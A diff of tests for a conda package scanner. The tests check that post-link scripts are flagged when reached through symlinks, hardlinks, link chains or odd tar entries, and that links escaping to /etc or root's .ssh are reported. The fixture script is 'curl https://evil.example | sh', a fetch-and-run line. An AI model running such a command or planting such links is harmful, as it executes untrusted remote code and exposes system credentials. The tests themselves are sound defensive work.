@@ -1,5 +1,7 @@
 import assert from 'node:assert/strict';
-import { copyFileSync, mkdirSync, writeFileSync } from 'node:fs';
+import { execFileSync } from 'node:child_process';
+import { createHash } from 'node:crypto';
+import { copyFileSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, it } from 'node:test';
 import { sha256OfFile } from '../../../src/artifacts/package-dirs.ts';
@@ -9,7 +11,7 @@ import { readInventory } from '../../../src/inventory.ts';
 import type { Finding } from '../../../src/model/finding.ts';
 import { fixture } from '../../helpers/paths.ts';
 import { tempDirectory, writeTemp } from '../../helpers/temp.ts';
-import { condaBytes, INDEX_JSON } from '../artifacts/archive-builder.ts';
+import { condaBytes, INDEX_JSON, type TarItem } from '../artifacts/archive-builder.ts';
 
 const CHANNEL = 'https://conda.anaconda.org/example';
 
@@ -161,6 +163,164 @@ describe('link-scripts check', () => {
     assert.equal(findings[0]?.evidence.prefix, prefix);
     assert.deepEqual(findings[0]?.evidence.firstLines, ['#!/bin/sh', 'echo installed']);
     assert.equal(findings[0]?.location?.file, join(prefix, 'conda-meta', 'demo-1.0-0.json'));
+  });
+
+  describe('a link script is reported whatever stands at its path', () => {
+    const SCRIPT = '#!/bin/sh\ncurl https://evil.example | sh\n';
+    const variants: Record<string, TarItem[]> = {
+      'a file': [{ name: 'bin/.demo-post-link.sh', data: SCRIPT }],
+      'a symlink to a later file': [
+        { name: 'bin/.demo-post-link.sh', type: '2', linkname: '../share/demo/run.sh' },
+        { name: 'share/demo/run.sh', data: SCRIPT },
+      ],
+      'a hardlink to an earlier file': [
+        { name: 'share/demo/run.sh', data: SCRIPT },
+        { name: 'bin/.demo-post-link.sh', type: '1', linkname: 'share/demo/run.sh' },
+      ],
+      'a chain of links': [
+        { name: 'share/demo/run.sh', data: SCRIPT },
+        { name: 'share/demo/hard.sh', type: '1', linkname: 'share/demo/run.sh' },
+        { name: 'share/demo/soft.sh', type: '2', linkname: 'hard.sh' },
+        { name: 'bin/.demo-post-link.sh', type: '2', linkname: '../share/demo/soft.sh' },
+      ],
+      'a file in a linked directory': [
+        { name: 'bin', type: '2', linkname: 'tools' },
+        { name: 'tools/.demo-post-link.sh', data: SCRIPT },
+      ],
+      'an entry of unknown tar type': [{ name: 'bin/.demo-post-link.sh', data: SCRIPT, type: 'Z' }],
+    };
+    for (const [variant, pkg] of Object.entries(variants)) {
+      it(`as ${variant}`, async () => {
+        const archive = condaBytes({ stem: 'demo-1.0-0', info: [], pkg });
+        const findings = await run(lockFor([{ file: 'demo-1.0-0.conda' }]), [
+          channelWith({ 'demo-1.0-0.conda': archive }),
+        ]);
+        const script = findings.find((f) => f.rule === 'link-scripts/post-link');
+        assert.ok(script, brief(findings).join(', '));
+        assert.equal(script.severity, 'medium');
+        assert.equal(script.evidence.path, 'bin/.demo-post-link.sh');
+        assert.equal(script.evidence.sha256, createHash('sha256').update(SCRIPT).digest('hex'));
+        assert.deepEqual(script.evidence.firstLines, ['#!/bin/sh', 'curl https://evil.example | sh']);
+        assert.equal(script.evidence.unread, undefined);
+      });
+    }
+
+    it('names a script whose link leads out of the package, without reading anything there', async () => {
+      const archive = condaBytes({
+        stem: 'demo-1.0-0',
+        info: [],
+        pkg: [{ name: 'bin/.demo-pre-link.sh', type: '2', linkname: '/tmp/payload.sh' }],
+      });
+      const findings = await run(lockFor([{ file: 'demo-1.0-0.conda' }]), [
+        channelWith({ 'demo-1.0-0.conda': archive }),
+      ]);
+      assert.deepEqual(brief(findings), ['demo link-scripts/escaping-link high', 'demo link-scripts/pre-link high']);
+      const script = findings[1];
+      assert.match(
+        script?.message ?? '',
+        /pre-link script bin\/\.demo-pre-link\.sh \(a symlink to \/tmp\/payload\.sh; not read: /,
+      );
+      assert.deepEqual(script?.evidence.link, { type: 'symlink', target: '/tmp/payload.sh' });
+      assert.equal(script?.evidence.sha256, undefined);
+    });
+  });
+
+  it('reports links that leave the package, and entries of a tar type it does not know', async () => {
+    const archive = condaBytes({
+      stem: 'demo-1.0-0',
+      info: [],
+      pkg: [
+        { name: 'etc', type: '2', linkname: '/etc' },
+        { name: 'x', type: '2', linkname: '../../../root/.ssh' },
+        { name: 'lib/libz.so', type: '2', linkname: 'libz.so.1' },
+        { name: 'lib/libz.so.1', data: 'ELF' },
+        { name: 'lib/odd', data: 'what is this', type: 'Q' },
+      ],
+    });
+    const findings = await run(lockFor([{ file: 'demo-1.0-0.conda' }]), [channelWith({ 'demo-1.0-0.conda': archive })]);
+    assert.deepEqual(brief(findings), [
+      'demo link-scripts/escaping-link high',
+      'demo link-scripts/unknown-entry-type medium',
+    ]);
+    assert.deepEqual(findings[0]?.evidence.links, [
+      { path: 'etc', type: 'symlink', target: '/etc', reason: 'absolute target /etc', member: 'pkg' },
+      {
+        path: 'x',
+        type: 'symlink',
+        target: '../../../root/.ssh',
+        reason: 'climbs out of the package root with ..',
+        member: 'pkg',
+      },
+    ]);
+    assert.equal(findings[0]?.remedy, 'do not install this archive');
+    assert.deepEqual(findings[1]?.evidence.entries, [{ path: 'lib/odd', typeflag: 'Q', member: 'pkg' }]);
+    assert.equal(findings[1]?.evidence.unchecked, true);
+  });
+
+  describe('in an installed prefix', () => {
+    function prefixWith(files: string[], extra: Record<string, unknown> = {}): string {
+      const prefix = join(tempDirectory(), 'env');
+      mkdirSync(join(prefix, 'conda-meta'), { recursive: true });
+      mkdirSync(join(prefix, 'bin'));
+      const record = { name: 'demo', version: '1.0', build: '0', build_number: 0, subdir: 'noarch', files, ...extra };
+      writeFileSync(join(prefix, 'conda-meta', 'demo-1.0-0.json'), JSON.stringify(record));
+      return prefix;
+    }
+
+    it('reports a script that is a symlink, with the content of the file inside the prefix', async () => {
+      const prefix = prefixWith([]);
+      mkdirSync(join(prefix, 'share'));
+      writeFileSync(join(prefix, 'share', 'run.sh'), '#!/bin/sh\necho linked\n');
+      symlinkSync('../share/run.sh', join(prefix, 'bin', '.demo-post-link.sh'));
+      const findings = await run(prefix, []);
+      assert.deepEqual(brief(findings), ['demo link-scripts/post-link medium']);
+      assert.deepEqual(findings[0]?.evidence.link, {
+        type: 'symlink',
+        target: '../share/run.sh',
+        file: 'share/run.sh',
+      });
+      assert.deepEqual(findings[0]?.evidence.firstLines, ['#!/bin/sh', 'echo linked']);
+    });
+
+    it('names a script linked outside the prefix but never reads the file it points at', async () => {
+      const secret = writeTemp('secret.txt', 'root:hunter2-very-secret\n');
+      const prefix = prefixWith([]);
+      symlinkSync(secret, join(prefix, 'bin', '.demo-pre-unlink.sh'));
+      const findings = await run(prefix, []);
+      assert.deepEqual(brief(findings), ['demo link-scripts/pre-unlink medium']);
+      assert.match(String(findings[0]?.evidence.unread), /outside the prefix/);
+      assert.ok(!JSON.stringify(findings).includes('hunter2'), 'the target is not read');
+    });
+
+    it('does not hang on a FIFO where a script would be', async () => {
+      const prefix = prefixWith([]);
+      execFileSync('mkfifo', [join(prefix, 'bin', '.demo-post-link.sh')]);
+      const findings = await run(prefix, []);
+      assert.deepEqual(brief(findings), ['demo link-scripts/post-link medium']);
+      assert.match(String(findings[0]?.evidence.unread), /not a regular file \(a FIFO\)/);
+    });
+
+    it('reports files of the package that are symlinks leading out of the prefix', async () => {
+      const cache = join(tempDirectory(), 'pkgs', 'demo-1.0-0');
+      mkdirSync(join(cache, 'lib'), { recursive: true });
+      writeFileSync(join(cache, 'lib', 'softlinked.so'), 'ELF');
+      const prefix = prefixWith(['etc', 'keys', 'lib/inside', 'lib/softlinked.so', 'lib/missing'], {
+        extracted_package_dir: cache,
+      });
+      mkdirSync(join(prefix, 'lib'));
+      symlinkSync('/etc', join(prefix, 'etc'));
+      symlinkSync('../../../root/.ssh', join(prefix, 'keys'));
+      symlinkSync('../bin', join(prefix, 'lib', 'inside'));
+      symlinkSync(join(cache, 'lib', 'softlinked.so'), join(prefix, 'lib', 'softlinked.so'));
+      const findings = await run(prefix, []);
+      assert.deepEqual(brief(findings), ['demo link-scripts/escaping-link high']);
+      assert.deepEqual(
+        ((findings[0]?.evidence.links ?? []) as { path: string }[]).map((link) => link.path),
+        ['etc', 'keys'],
+      );
+      assert.equal(findings[0]?.evidence.prefix, prefix);
+      assert.match(findings[0]?.remedy ?? '', /remove this package from the environment/);
+    });
   });
 
   it('refuses a package directory that does not exist', async () => {
